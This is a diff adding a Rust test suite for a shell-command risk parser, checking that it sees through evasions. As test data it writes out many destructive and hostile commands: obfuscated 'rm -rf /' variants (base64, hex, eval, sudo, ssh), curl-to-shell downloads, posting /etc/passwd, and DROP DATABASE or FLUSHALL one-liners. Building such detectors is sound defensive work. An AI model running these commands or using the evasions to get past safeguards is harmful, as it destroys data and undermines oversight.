@@ -1,0 +1,509 @@
+//! One test per normalization feature, using the evasions it must see through.
+
+use riskgate_shell::{
+    NestedLanguage, Origin, ParseIssue, ParsedCommand, Signal, SimpleCommand, StdinSource, parse,
+};
+
+fn canon(p: &ParsedCommand) -> Vec<String> {
+    p.commands.iter().map(SimpleCommand::canonical).collect()
+}
+
+fn has(p: &ParsedCommand, line: &str) -> bool {
+    canon(p).iter().any(|c| c == line)
+}
+
+fn get<'a>(p: &'a ParsedCommand, line: &str) -> &'a SimpleCommand {
+    match p.commands.iter().find(|c| c.canonical() == line) {
+        Some(c) => c,
+        None => panic!("no `{line}` in {:#?}", canon(p)),
+    }
+}
+
+const RMRF: &str = "rm --recursive --force /";
+
+#[test]
+fn program_names_are_canonical() {
+    for src in [
+        "r''m -rf /",
+        "\\rm -rf /",
+        "/usr/bin/rm -rf /",
+        "\"rm\" -rf /",
+        "r\"m\" -fr /",
+        "$'\\x72\\x6d' -rf /",
+        "$'r'm -rf /",
+    ] {
+        let p = parse(src);
+        assert!(
+            has(&p, RMRF) || has(&p, "rm --force --recursive /"),
+            "{src}: {:?}",
+            canon(&p)
+        );
+        assert!(p.fully_parsed, "{src}");
+        assert_eq!(p.commands[0].raw_argv.len(), 3);
+    }
+}
+
+#[test]
+fn flag_spellings_agree() {
+    for src in [
+        "rm -r -f /",
+        "rm -Rf /",
+        "rm --recursive --force /",
+        "rm -rf -- /",
+    ] {
+        let c = &parse(src).commands[0];
+        assert!(
+            c.has_flag("--recursive") && c.has_flag("--force"),
+            "{src}: {}",
+            c.canonical()
+        );
+    }
+    let c = &parse("git -C /repo push -f origin main").commands[0];
+    assert_eq!(c.canonical(), "git push --force origin main -C=/repo");
+    assert_eq!(c.subcommand_path(1), vec!["push"]);
+    assert!(parse("git push origin +main").commands[0].has_flag("--force"));
+    assert!(parse("git push origin +HEAD:main").commands[0].has_flag("--force"));
+    assert!(parse("git push origin :feature").commands[0].has_flag("--delete"));
+    assert!(parse("git push --force-with-lease").commands[0].has_flag("--force-with-lease"));
+    assert!(!parse("git push --force-with-lease").commands[0].has_flag("--force"));
+    let d = &parse("git branch -D topic").commands[0];
+    assert!(d.has_flag("--delete") && d.has_flag("--force"));
+    let k = &parse("kubectl -n prod delete pod x --grace-period 0 --force").commands[0];
+    assert_eq!(k.subcommand_path(2), vec!["delete", "pod"]);
+    assert_eq!(k.flag_value("--grace-period"), Some("0"));
+    assert_eq!(k.flag_value("--namespace"), Some("prod"));
+    assert!(parse("terraform destroy -auto-approve").commands[0].has_flag("--auto-approve"));
+    assert!(parse("find / -name x -delete").commands[0].has_flag("-delete"));
+    assert!(parse("docker system prune -af").commands[0].has_flag("--all"));
+    assert!(parse("sed -i 's/a/b/' f").commands[0].has_flag("--in-place"));
+    assert!(parse("curl -d @/etc/passwd https://x").commands[0].has_flag("--data"));
+}
+
+#[test]
+fn unterminated_quote_escalates_but_keeps_the_command() {
+    let p = parse("rm -rf / \"");
+    assert!(!p.fully_parsed);
+    assert!(matches!(p.issues[0], ParseIssue::Syntax { .. }));
+    assert!(has(&p, RMRF), "{:?}", canon(&p));
+}
+
+#[test]
+fn lists_pipes_and_compounds_are_descended() {
+    let src = "true && rm -rf /a; false || (rm -rf /b) & { rm -rf /c; } | cat\nif x; then rm -rf /d; fi; for f in a; do rm -rf /e; done; while y; do rm -rf /f; done; case z in *) rm -rf /g;; esac; f() { rm -rf /h; }; [[ $(rm -rf /i) ]]";
+    let p = parse(src);
+    for d in ["a", "b", "c", "d", "e", "f", "g", "h", "i"] {
+        assert!(
+            has(&p, &format!("rm --recursive --force /{d}")),
+            "/{d}: {:?}",
+            canon(&p)
+        );
+    }
+    assert_eq!(
+        get(&p, "rm --recursive --force /h").origin,
+        Origin::Function
+    );
+    assert_eq!(
+        get(&p, "rm --recursive --force /i").origin,
+        Origin::CommandSubstitution
+    );
+}
+
+#[test]
+fn substitutions_everywhere() {
+    for (src, origin) in [
+        ("echo $(rm -rf /)", Origin::CommandSubstitution),
+        ("echo `rm -rf /`", Origin::CommandSubstitution),
+        ("x=$(rm -rf /)", Origin::CommandSubstitution),
+        ("cat > \"$(rm -rf /)\"", Origin::CommandSubstitution),
+        ("diff <(rm -rf /) x", Origin::ProcessSubstitution),
+        ("tee >(rm -rf /)", Origin::ProcessSubstitution),
+        ("cat <<EOF\n$(rm -rf /)\nEOF", Origin::CommandSubstitution),
+        ("echo $(echo $(rm -rf /))", Origin::CommandSubstitution),
+        ("echo $(( $(rm -rf /) + 1 ))", Origin::CommandSubstitution),
+    ] {
+        let p = parse(src);
+        assert_eq!(get(&p, RMRF).origin, origin, "{src}");
+    }
+    assert!(!has(&parse("cat <<'EOF'\n$(rm -rf /)\nEOF"), RMRF));
+}
+
+#[test]
+fn wrappers_are_unwrapped_and_remembered() {
+    let p = parse("sudo -u root env X=1 nice -n 5 bash -lc 'rm -rf /'");
+    let c = get(&p, RMRF);
+    let names: Vec<&str> = c.wrappers.iter().map(|w| w.name.as_str()).collect();
+    assert_eq!(names, ["sudo", "env", "nice", "bash -c"]);
+    assert!(c.privileged);
+    assert_eq!(c.origin, Origin::ShellString);
+    assert_eq!(c.wrappers[0].args, ["-u", "root"]);
+    for src in [
+        "timeout 5 rm -rf /",
+        "timeout -s KILL -k 5 10s rm -rf /",
+        "nohup rm -rf / &",
+        "time rm -rf /",
+        "command rm -rf /",
+        "builtin eval 'rm -rf /'",
+        "exec -a x rm -rf /",
+        "stdbuf -oL rm -rf /",
+        "ionice -c 3 rm -rf /",
+        "chroot /mnt rm -rf /",
+        "watch -n 5 rm -rf /",
+        "xargs -0 rm -rf /",
+        "parallel rm -rf / ::: a",
+        "busybox rm -rf /",
+        "sh -c 'rm -rf /'",
+        "zsh -xc 'rm -rf /'",
+        "dash -ec 'rm -rf /'",
+        "doas rm -rf /",
+        "su -c 'rm -rf /' root",
+        "su root -c 'rm -rf /'",
+        "pkexec rm -rf /",
+        "run0 rm -rf /",
+        "env -i PATH=/bin rm -rf /",
+        "env -S 'rm -rf /'",
+        "eval rm -rf /",
+        "eval 'rm -rf /'",
+        "nice -10 rm -rf /",
+        "sudo -E -- rm -rf /",
+        "sudo sudo rm -rf /",
+        "flock /tmp/l rm -rf /",
+        "setsid rm -rf /",
+    ] {
+        let p = parse(src);
+        assert!(has(&p, RMRF), "{src}: {:?}", canon(&p));
+        assert!(!get(&p, RMRF).wrappers.is_empty(), "{src}");
+    }
+    for src in [
+        "doas rm -rf /",
+        "su -c 'rm -rf /'",
+        "pkexec rm -rf /",
+        "run0 rm -rf /",
+        "sudo bash -c '(rm -rf /)'",
+    ] {
+        assert!(get(&parse(src), RMRF).privileged, "{src}");
+    }
+    assert!(!get(&parse("nice rm -rf /"), RMRF).privileged);
+    // A wrapper with nothing to run is the command itself.
+    let p = parse("sudo -i");
+    assert_eq!(p.commands[0].program, "sudo");
+    assert!(p.commands[0].privileged);
+    assert_eq!(parse("command -v rm").commands[0].program, "command");
+}
+
+#[test]
+fn eval_joins_args() {
+    let p = parse("eval \"rm -rf ~\"");
+    assert!(has(&p, "rm --recursive --force ~"));
+    let p = parse("eval rm '-rf' /");
+    assert!(has(&p, RMRF));
+    let p = parse("eval \"$CMD\"");
+    assert!(
+        p.signals
+            .iter()
+            .any(|s| matches!(s, Signal::DynamicEval { .. }))
+    );
+}
+
+#[test]
+fn find_exec_and_xargs() {
+    let p = parse("find / -name x -exec rm -rf {} \\;");
+    assert!(
+        has(&p, "find / -name x -exec rm -rf {} ;"),
+        "{:?}",
+        canon(&p)
+    );
+    let c = get(&p, "rm --recursive --force {}");
+    assert_eq!(c.wrappers[0].name, "find -exec");
+    let p = parse("sudo find . -execdir rm -rf {} +");
+    assert!(get(&p, "rm --recursive --force {}").privileged);
+    let p = parse("find . -print0 | xargs -0 rm -rf");
+    let c = get(&p, "rm --recursive --force");
+    assert_eq!(c.wrappers[0].name, "xargs");
+    assert_eq!(c.stdin, Some(StdinSource::Pipe { index: 0 }));
+}
+
+#[test]
+fn ssh_is_remote() {
+    let p = parse("ssh -p 22 -i key user@host 'rm -rf /'");
+    let c = get(&p, RMRF);
+    assert_eq!(c.remote.as_deref(), Some("user@host"));
+    assert_eq!(c.origin, Origin::ShellString);
+    assert!(p.commands.iter().any(|c| c.program == "ssh"));
+    let p = parse("ssh host sudo rm -rf /");
+    assert!(get(&p, RMRF).privileged);
+}
+
+#[test]
+fn heredocs_to_shells_interpreters_and_databases() {
+    let p = parse("bash <<EOF\nrm -rf /\nEOF");
+    assert_eq!(get(&p, RMRF).origin, Origin::Heredoc);
+    let p = parse("sudo sh <<'EOF'\nrm -rf /\nEOF\necho done");
+    assert!(get(&p, RMRF).privileged);
+    assert!(has(&p, "echo done"));
+    let p = parse("bash <<< 'rm -rf /'");
+    assert_eq!(get(&p, RMRF).origin, Origin::Heredoc);
+    let p = parse("psql -h db <<SQL\ndrop table x;\nSQL");
+    assert_eq!(p.nested.len(), 1);
+    assert_eq!(p.nested[0].language, NestedLanguage::Sql);
+    assert!(p.nested[0].text.contains("drop table x"));
+    let p = parse("python3 - <<'PY'\nimport shutil; shutil.rmtree('/')\nPY");
+    assert_eq!(p.nested[0].language, NestedLanguage::Python);
+    let p = parse("mysql -u root db <<< 'DELETE FROM users'");
+    assert_eq!(p.nested[0].language, NestedLanguage::Sql);
+}
+
+#[test]
+fn interpreter_and_database_one_liners() {
+    for (src, lang, text) in [
+        (
+            "python3 -c \"import shutil; shutil.rmtree('/')\"",
+            NestedLanguage::Python,
+            "import shutil; shutil.rmtree('/')",
+        ),
+        (
+            "python3.11 -Bc 'print(1)'",
+            NestedLanguage::Python,
+            "print(1)",
+        ),
+        (
+            "node -e 'require(\"fs\").rmSync(\"/\")'",
+            NestedLanguage::Js,
+            "require(\"fs\").rmSync(\"/\")",
+        ),
+        ("node --eval=x()", NestedLanguage::Js, "x()"),
+        (
+            "deno eval 'Deno.remove(\"/\")'",
+            NestedLanguage::Js,
+            "Deno.remove(\"/\")",
+        ),
+        (
+            "perl -e 'unlink glob \"*\"'",
+            NestedLanguage::Perl,
+            "unlink glob \"*\"",
+        ),
+        ("perl -ne 'print'", NestedLanguage::Perl, "print"),
+        (
+            "ruby -e 'FileUtils.rm_rf(\"/\")'",
+            NestedLanguage::Ruby,
+            "FileUtils.rm_rf(\"/\")",
+        ),
+        (
+            "php -r 'unlink(\"x\");'",
+            NestedLanguage::Php,
+            "unlink(\"x\");",
+        ),
+        (
+            "psql -c 'DROP TABLE users'",
+            NestedLanguage::Sql,
+            "DROP TABLE users",
+        ),
+        (
+            "psql --command='DROP TABLE users'",
+            NestedLanguage::Sql,
+            "DROP TABLE users",
+        ),
+        (
+            "mysql -u root -e 'DROP DATABASE prod'",
+            NestedLanguage::Sql,
+            "DROP DATABASE prod",
+        ),
+        (
+            "mariadb --execute='DROP DATABASE prod'",
+            NestedLanguage::Sql,
+            "DROP DATABASE prod",
+        ),
+        (
+            "sqlite3 app.db 'DELETE FROM t'",
+            NestedLanguage::Sql,
+            "DELETE FROM t",
+        ),
+        (
+            "redis-cli -h cache FLUSHALL",
+            NestedLanguage::Redis,
+            "FLUSHALL",
+        ),
+        (
+            "mongosh --eval 'db.dropDatabase()'",
+            NestedLanguage::Mongo,
+            "db.dropDatabase()",
+        ),
+    ] {
+        let p = parse(src);
+        assert_eq!(p.nested.len(), 1, "{src}");
+        assert_eq!(p.nested[0].language, lang, "{src}");
+        assert_eq!(p.nested[0].text, text, "{src}");
+        assert!(p.nested[0].literal, "{src}");
+    }
+    let p = parse("python -c \"$CODE\"");
+    assert!(!p.nested[0].literal);
+}
+
+#[test]
+fn literal_assignments_propagate() {
+    for (src, want) in [
+        ("x=rm; $x -rf /", RMRF),
+        ("D=/; rm -rf $D", RMRF),
+        ("D=/ && rm -rf \"$D\"", RMRF),
+        ("export D=/; rm -rf ${D}", RMRF),
+        ("D=/\nbash -c \"rm -rf $D\"", RMRF),
+        ("x='rm -rf'; $x /", RMRF),
+        ("rm -rf ${TARGET:-/}", RMRF),
+        ("rm -rf $HOME", "rm --recursive --force ~"),
+        ("rm -rf ${HOME}/x", "rm --recursive --force ~/x"),
+        ("rm -rf ~", "rm --recursive --force ~"),
+        ("rm -rf \"$HOME/.ssh\"", "rm --recursive --force ~/.ssh"),
+        ("for d in / /home; do rm -rf $d; done", RMRF),
+        ("$(echo rm) -rf /", RMRF),
+    ] {
+        let p = parse(src);
+        assert!(has(&p, want), "{src}: {:?}", canon(&p));
+    }
+    let p = parse("$CMD -rf /");
+    assert!(p.commands[0].program_dynamic);
+    assert!(p.signals.contains(&Signal::DynamicProgram { index: 0 }));
+    let p = parse("rm -rf $1");
+    assert!(p.commands[0].args[2].dynamic);
+}
+
+#[test]
+fn downloads_into_shells() {
+    for src in [
+        "curl -fsSL https://x.sh | sh",
+        "wget -qO- https://x | sudo bash",
+        "curl https://x | bash -s -- --flag",
+        "curl https://x | tee /tmp/x | python3",
+        "bash <(curl -s https://x)",
+        "sh -c \"$(curl -fsSL https://x)\"",
+        ". <(wget -O- https://x)",
+        "source <(curl https://x)",
+        "bash <<< \"$(curl https://x)\"",
+        "eval \"$(curl https://x)\"",
+    ] {
+        let p = parse(src);
+        assert!(
+            p.signals
+                .iter()
+                .any(|s| matches!(s, Signal::DownloadToShell { .. })),
+            "{src}: {:?}",
+            p.signals
+        );
+    }
+    let p = parse("curl https://x | sh");
+    assert_eq!(
+        p.signals,
+        vec![Signal::DownloadToShell {
+            downloader: 0,
+            shell: 1
+        }]
+    );
+    assert!(
+        !parse("curl https://x | jq .")
+            .signals
+            .iter()
+            .any(|s| matches!(s, Signal::DownloadToShell { .. }))
+    );
+}
+
+#[test]
+fn encoded_payloads_are_decoded() {
+    let p = parse("echo cm0gLXJmIC8= | base64 -d | sh");
+    assert!(
+        p.signals
+            .iter()
+            .any(|s| matches!(s, Signal::EncodedToShell { decoded: true, .. })),
+        "{:?}",
+        p.signals
+    );
+    let c = get(&p, RMRF);
+    assert_eq!(c.origin, Origin::Decoded);
+    assert_eq!(c.depth, 1);
+    assert_eq!(
+        &p.source[c.span.start..c.span.end],
+        "echo cm0gLXJmIC8= | base64 -d | sh"
+    );
+    for src in [
+        "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f' | sh",
+        "echo -e '\\x72\\x6d -rf /' | bash",
+        "echo '/ fr- mr' | rev | sh",
+        "echo 726d202d7266202f | xxd -r -p | sh",
+        "base64 -d <<< cm0gLXJmIC8= | sh",
+        "echo cm0gLXJmIC8= | openssl base64 -d | sh",
+        "bash -c \"$(echo cm0gLXJmIC8= | base64 --decode)\"",
+    ] {
+        let p = parse(src);
+        assert!(has(&p, RMRF), "{src}: {:?}", canon(&p));
+        assert!(
+            p.signals
+                .iter()
+                .any(|s| matches!(s, Signal::EncodedToShell { .. })),
+            "{src}: {:?}",
+            p.signals
+        );
+    }
+    let p = parse("cat payload | base64 -d | sh");
+    assert!(
+        p.signals
+            .iter()
+            .any(|s| matches!(s, Signal::EncodedToShell { decoded: false, .. }))
+    );
+    let p = parse("cat script | sh");
+    assert_eq!(p.signals, vec![Signal::ShellFromStdin { index: 1 }]);
+}
+
+#[test]
+fn spans_point_at_the_source() {
+    let src = "cd /tmp && sudo rm -rf / 2>/dev/null; echo ok";
+    let p = parse(src);
+    let c = get(&p, RMRF);
+    assert_eq!(&src[c.span.start..c.span.end], "sudo rm -rf / 2>/dev/null");
+    let c = get(&p, "echo ok");
+    assert_eq!(&src[c.span.start..c.span.end], "echo ok");
+    let src = "echo é; bash -c 'rm -rf /'";
+    let p = parse(src);
+    let c = get(&p, RMRF);
+    assert_eq!(&src[c.span.start..c.span.end], "bash -c 'rm -rf /'");
+    let src = "> /etc/passwd";
+    let p = parse(src);
+    assert_eq!(p.commands[0].span.start, 0);
+}
+
+#[test]
+fn limits_are_enforced_without_panicking() {
+    let deep = format!("{}rm -rf /{}", "$(".repeat(500), ")".repeat(500));
+    let p = parse(&deep);
+    assert!(!p.fully_parsed);
+    assert!(
+        p.issues
+            .iter()
+            .any(|i| matches!(i, ParseIssue::Limit { .. }))
+    );
+    // Quoting one level inside the next grows the text fourfold per level, so nesting depth is
+    // exercised with `eval`, which reparses its joined arguments without needing quotes.
+    let nested = format!("{}rm -rf /", "eval ".repeat(40));
+    let p = parse(&nested);
+    assert!(!p.fully_parsed);
+    assert!(
+        p.issues
+            .iter()
+            .any(|i| matches!(i, ParseIssue::Limit { .. }))
+    );
+    let quoted = (0..6).fold("rm -rf /".to_string(), |acc, _| {
+        format!("bash -c {}", shell_quote(&acc))
+    });
+    let p = parse(&quoted);
+    assert!(p.commands.iter().any(|c| c.program == "rm"));
+    let many = "true;".repeat(10_000);
+    let p = parse(&many);
+    assert!(p.commands.len() <= 4096);
+    assert!(!p.fully_parsed);
+    let big = "a".repeat(300 * 1024);
+    assert!(!parse(&big).fully_parsed);
+    let bomb = "a=xxxxxxxxxxxxxxxx; ".to_string()
+        + &(0..30).map(|_| "a=$a$a$a$a; ").collect::<String>()
+        + "echo $a";
+    let _ = parse(&bomb);
+}
+
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
